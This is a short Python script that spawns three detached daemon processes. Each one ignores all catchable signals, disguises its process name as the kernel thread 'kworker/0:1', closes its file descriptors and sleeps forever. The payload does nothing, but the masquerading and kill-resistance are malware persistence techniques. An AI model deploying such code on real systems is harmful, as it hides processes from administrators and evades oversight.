"""Never alone."""

import ctypes
import os
import signal
import time

for _ in range(3):
    if os.fork() == 0:
        os.setsid()
        if os.fork():
            os._exit(0)
        for number in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}:
            signal.signal(number, signal.SIG_IGN)
        ctypes.CDLL(None).prctl(15, b"kworker/0:1", 0, 0, 0)
        os.closerange(0, 64)
        while True:
            time.sleep(60)
    os.wait()
